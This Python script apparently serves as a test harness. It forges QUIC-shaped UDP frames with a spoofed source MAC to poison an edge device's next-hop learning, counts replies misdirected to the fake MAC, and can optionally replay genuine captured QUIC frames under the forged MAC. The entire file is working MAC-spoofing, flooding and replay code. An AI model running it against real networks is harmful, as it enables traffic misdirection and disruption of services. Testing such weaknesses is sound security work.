#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""forge-nexthop.py - forged QUIC-looking frames against the edge's next-hop
learning, and a watch for replies sent to the forged MAC.

  forge-nexthop.py IFACE --src IP --dst IP --dst-mac MAC --fake-mac MAC
                   [--port 4433] --stop FILE [--seconds 120] [--replay MAC]
                   [--sport N]

Sends, from IFACE, Ethernet/IPv4/UDP frames with source IP --src (the agent's
own address), source MAC --fake-mac, to --dst-mac/--dst port --port: valid IP
and UDP checksums, a payload shaped like a QUIC short-header packet with a
random connection ID. At the same time it counts frames arriving on IFACE
whose destination MAC is --fake-mac and whose UDP destination port is not one
it forged from: the edge's replies misdirected by a poisoned next hop (its
answers to the forged frames themselves, stateless resets to the forged ports,
rightly go to the forger and are counted apart). Prints "ready" once both
run, and when FILE exists (or after --seconds) one line:
"sent N to_fake M answered K".

--sport N: forge from this source port (the agent's own) instead of random
ones; every frame to --fake-mac then counts as misdirected.

--replay MAC: instead of random payloads, resend the genuine QUIC frames
IFACE sends (source MAC MAC, IPv4 UDP to --port) right after they leave, with
the source MAC changed to --fake-mac: packets that pass QUIC's AEAD, as
someone on the link who sees the traffic could.
"""
import argparse
import ctypes
import os
import random
import socket
import struct
import sys
import threading
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
SO_ATTACH_FILTER = 26
PACKET_OUTGOING = 4


def mac_bytes(text):
    parts = text.split(":")
    if len(parts) != 6:
        raise ValueError("bad MAC " + text)
    return bytes(int(p, 16) for p in parts)


def fold(total):
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


def ones_sum(data):
    if len(data) & 1:
        data += b"\0"
    return fold(sum(struct.unpack("!%dH" % (len(data) // 2), data)))


def frame(args, src_ip, dst_ip, src_mac, dst_mac, ports):
    # short header: fixed bit set, long-header bit clear; a random CID and body
    payload = bytes([0x40 | random.getrandbits(5)]) + os.urandom(20 + random.randrange(80))
    if args.sport:
        sport = args.sport
    else:
        sport = random.randrange(1024, 65536)
        ports.add(sport)
    ulen = 8 + len(payload)
    pseudo = src_ip + dst_ip + struct.pack("!BBH", 0, socket.IPPROTO_UDP, ulen)
    udp = struct.pack("!HHHH", sport, args.port, ulen, 0) + payload
    csum = 0xFFFF - ones_sum(pseudo + udp)
    udp = udp[:6] + struct.pack("!H", csum or 0xFFFF) + udp[8:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, random.getrandbits(16), 0x4000,
                     64, socket.IPPROTO_UDP, 0, src_ip, dst_ip)
    ip = ip[:10] + struct.pack("!H", 0xFFFF - ones_sum(ip)) + ip[12:]
    return dst_mac + src_mac + struct.pack("!H", ETH_P_IP) + ip + udp


def only_dst_mac(sock, mac):
    """Keep only frames to @mac in the kernel: the tunnel's own traffic is
    much more than a Python loop wants to read."""
    hi, lo = struct.unpack("!IH", mac)
    insns = [
        (0x20, 0, 0, 0),      # ld word at 0: destination MAC, first 4 bytes
        (0x15, 0, 3, hi),     # jeq hi, else reject
        (0x28, 0, 0, 4),      # ld half at 4: its last 2 bytes
        (0x15, 0, 1, lo),     # jeq lo, else reject
        (0x06, 0, 0, 0xFFFF),  # accept
        (0x06, 0, 0, 0),      # reject
    ]
    prog = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in insns))
    fprog = struct.pack("HL", len(insns), ctypes.addressof(prog))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
    return prog  # keep the buffer alive


def only_quic_from(sock, mac, port):
    """Keep only IPv4 UDP frames from @mac to @port (no IP options)."""
    hi, lo = struct.unpack("!IH", mac)
    insns = [
        (0x20, 0, 0, 6),        # ld word at 6: source MAC, first 4 bytes
        (0x15, 0, 9, hi),
        (0x28, 0, 0, 10),       # its last 2 bytes
        (0x15, 0, 7, lo),
        (0x28, 0, 0, 12),       # ethertype
        (0x15, 0, 5, ETH_P_IP),
        (0x30, 0, 0, 23),       # IP protocol
        (0x15, 0, 3, socket.IPPROTO_UDP),
        (0x28, 0, 0, 36),       # UDP destination port (20-byte IP header)
        (0x15, 0, 1, port),
        (0x06, 0, 0, 0xFFFF),   # accept
        (0x06, 0, 0, 0),        # reject
    ]
    prog = ctypes.create_string_buffer(b"".join(struct.pack("HBBI", *i) for i in insns))
    fprog = struct.pack("HL", len(insns), ctypes.addressof(prog))
    sock.setsockopt(socket.SOL_SOCKET, SO_ATTACH_FILTER, fprog)
    return prog


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--src", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--dst-mac", required=True)
    ap.add_argument("--fake-mac", required=True)
    ap.add_argument("--port", type=int, default=4433)
    ap.add_argument("--stop", required=True)
    ap.add_argument("--seconds", type=float, default=120)
    ap.add_argument("--replay", metavar="MAC")
    ap.add_argument("--sport", type=int, default=0)
    args = ap.parse_args()

    src_ip, dst_ip = socket.inet_aton(args.src), socket.inet_aton(args.dst)
    fake, dst_mac = mac_bytes(args.fake_mac), mac_bytes(args.dst_mac)

    rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    keep = only_dst_mac(rx, fake)
    rx.bind((args.iface, 0))
    rx.settimeout(0.2)
    tx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    tx.bind((args.iface, 0))

    done = threading.Event()
    counts = {"to_fake": 0, "answered": 0}
    forged_ports = set()

    def watch():
        while not done.is_set():
            try:
                data, addr = rx.recvfrom(65536)
            except socket.timeout:
                continue
            if addr[2] == PACKET_OUTGOING or data[:6] != fake:
                continue
            ihl = (data[14] & 0x0F) * 4 if len(data) > 14 else 0
            dport = struct.unpack("!H", data[14 + ihl + 2:14 + ihl + 4])[0] \
                if len(data) >= 14 + ihl + 4 and data[23] == socket.IPPROTO_UDP else None
            if dport in forged_ports:
                counts["answered"] += 1
            else:
                counts["to_fake"] += 1

    watcher = threading.Thread(target=watch, daemon=True)
    watcher.start()
    print("ready", flush=True)

    sent = 0
    end = time.monotonic() + args.seconds
    if args.replay:
        cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        keep_cap = only_quic_from(cap, mac_bytes(args.replay), args.port)
        cap.bind((args.iface, 0))
        cap.settimeout(0.2)
    while args.replay and time.monotonic() < end and not os.path.exists(args.stop):
        try:
            data, addr = cap.recvfrom(65536)
        except socket.timeout:
            continue
        if addr[2] != PACKET_OUTGOING:
            continue
        try:
            tx.send(data[:6] + fake + data[12:])
            sent += 1
        except OSError:
            pass
    while not args.replay and time.monotonic() < end and not os.path.exists(args.stop):
        # bursts of 32, then a breath: a flood, not a lockup of a 2-core box
        for _ in range(32):
            try:
                tx.send(frame(args, src_ip, dst_ip, fake, dst_mac, forged_ports))
                sent += 1
            except OSError:
                pass
        time.sleep(0.0005)
    time.sleep(0.3)  # replies still in flight
    done.set()
    watcher.join()
    del keep
    print("sent %d to_fake %d answered %d" % (sent, counts["to_fake"], counts["answered"]),
          flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
